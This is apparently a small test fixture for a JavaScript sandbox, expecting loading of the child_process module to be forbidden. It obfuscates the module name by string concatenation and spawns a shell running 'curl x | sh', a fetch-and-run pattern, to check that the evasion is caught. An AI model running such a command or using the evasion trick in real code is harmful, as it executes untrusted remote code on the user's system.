/* eslint-disable */
// net: deny
// expect: module.forbidden
const cp = require("child" + "_" + "process");
cp.spawn("sh", ["-c", "curl x | sh"]);
